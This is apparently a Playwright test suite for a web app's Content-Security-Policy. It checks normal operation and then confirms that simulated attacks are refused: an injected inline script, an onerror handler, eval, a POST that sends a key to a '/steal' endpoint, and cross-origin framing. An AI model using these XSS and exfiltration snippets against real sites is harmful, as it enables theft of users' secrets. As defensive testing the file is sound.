// The pages under their Content-Security-Policy in real Chromium: the app does its normal work (device
// check in the compute worker, relay and chain, every page) without a single violation, while an injected
// inline script, eval, a fetch to an unlisted host and framing by another origin are all refused.
import { expect, test } from '@playwright/test'
import { recordViolations } from './violations.ts'

test('the app works under its Content-Security-Policy with no violation', async ({ page }) => {
  const violations = await recordViolations(page)
  const response = await page.goto('/')
  expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'")
  await expect(page.getByTestId('relay-status')).toHaveAttribute('data-state', 'connected')
  await expect(page.getByTestId('chain-status')).toHaveAttribute('data-state', 'ok')
  await page.getByRole('button', { name: 'Run the check' }).click()
  await expect(page.getByTestId('check-verdict')).toContainText('Only WebAssembly is available', { timeout: 120_000 })
  for (const link of ['Contribute', 'Research', 'Ledger', 'Governance', 'Audit', 'Volunteer']) await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: link }).click()
  expect(await violations()).toEqual([])
})

test('an injected script gets nothing: inline code, eval, unlisted hosts and framing are refused and reported', async ({ page, browser }) => {
  const violations = await recordViolations(page)
  await page.goto('/')
  await expect(page.getByTestId('self-peer-id')).toHaveText(/^12D3KooW/)

  // What an XSS would try: run inline code (a script element, markup with a handler), eval a string, send
  // the burner key somewhere.
  const outcome = await page.evaluate(async () => {
    const script = document.createElement('script')
    script.textContent = 'window.__injected = true'
    document.body.append(script)
    const markup = document.createElement('div')
    markup.innerHTML = '<img src="/x.png" onerror="window.__injected = true">'
    document.body.append(markup)
    // Later, from the page's own task: DevTools lifts the eval restriction only while it evaluates.
    const evalResult = await new Promise<string>((resolve) =>
      setTimeout(() => {
        try {
          eval('1 + 1')
          resolve('ran')
        } catch (error) {
          resolve((error as Error).name)
        }
      }, 0),
    )
    const exfiltrated = await fetch('http://10.77.0.2:9/steal', { method: 'POST', body: 'key' }).then(
      () => 'sent',
      () => 'blocked',
    )
    await new Promise((r) => setTimeout(r, 200))
    return { injected: (window as unknown as { __injected?: boolean }).__injected === true, evalResult, exfiltrated }
  })
  expect(outcome).toEqual({ injected: false, evalResult: 'EvalError', exfiltrated: 'blocked' })
  const directives = (await violations()).map((v) => v.directive)
  expect(directives).toContain('script-src-elem')
  expect(directives).toContain('script-src-attr')
  expect(directives).toContain('script-src')
  expect(directives).toContain('connect-src')

  // Another site tries to frame the app (clickjacking the Claim button): Chromium refuses to render it.
  const framer = await browser.newPage()
  const appUrl = process.env.TESSERAE_URL!
  await framer.route('http://framer.test/', (route) => route.fulfill({ contentType: 'text/html', body: `<iframe src="${appUrl}"></iframe>` }))
  await framer.goto('http://framer.test/')
  await framer.waitForTimeout(1000)
  const framed = framer.frames().find((f) => f !== framer.mainFrame())
  expect(framed).toBeDefined()
  expect(framed!.url()).not.toBe(appUrl)
  expect(await framed!.locator('#root').count()).toBe(0)
  await framer.close()
})
